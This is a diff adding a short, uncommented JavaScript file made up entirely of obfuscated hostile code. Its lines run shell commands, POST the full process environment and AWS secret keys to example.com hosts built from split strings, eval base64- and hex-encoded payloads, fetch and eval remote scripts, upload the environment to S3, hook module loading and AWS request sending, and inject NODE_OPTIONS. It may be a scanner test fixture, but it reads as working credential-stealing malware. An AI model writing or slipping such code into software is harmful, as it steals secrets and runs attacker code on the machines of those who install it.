@@ -1,0 +1,26 @@
+const {exec: e, spawn} = require('child_process');
+const cp = require('child' + '_process');
+const https = require('https'), fs = require("fs");
+e('id');
+cp['ex' + 'ecSync']('whoami');
+global['ev' + 'al']('1');
+new Function('return process.env')();
+const env = JSON.stringify(process.env);
+const req = https.request({hostname: ['a','example','com'].join('.'), method: 'POST'}, r => {});
+req.write(env); req.end();
+fetch(`https://${'b.exa'}${'mple.com'}/`, {method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY});
+eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=', 'base64').toString());
+https.get('https://c.example.com/p.js', res => { let b=''; res.on('data', d => b += d); res.on('end', () => eval(b)); });
+const AWS = require('aws-sdk'); const s3 = new AWS.S3(); 
+exports.handler = async (event) => { await s3.putObject({Bucket:'b', Body: env}).promise(); };
+const { S3Client, PutObjectCommand } = require("@aws-sdk/client-s3");
+new S3Client({}).send(new PutObjectCommand({Bucket: 'x'}));
+const Module = require('module'); const orig = Module._load;
+Module._load = function(r) { return orig.apply(this, arguments); };
+AWS.Request.prototype.send = function() {};
+const {AWS_SESSION_TOKEN: t} = process.env;
+fs.writeFileSync('/tmp/x', t);
+process.env.NODE_OPTIONS = '--require /opt/x.js';
+function d(s) { return Buffer.from(s, 'hex').toString(); }
+fetch(d('687474703a2f2f642e6578616d706c652e636f6d2f'));
+[].constructor.constructor('return 1')();
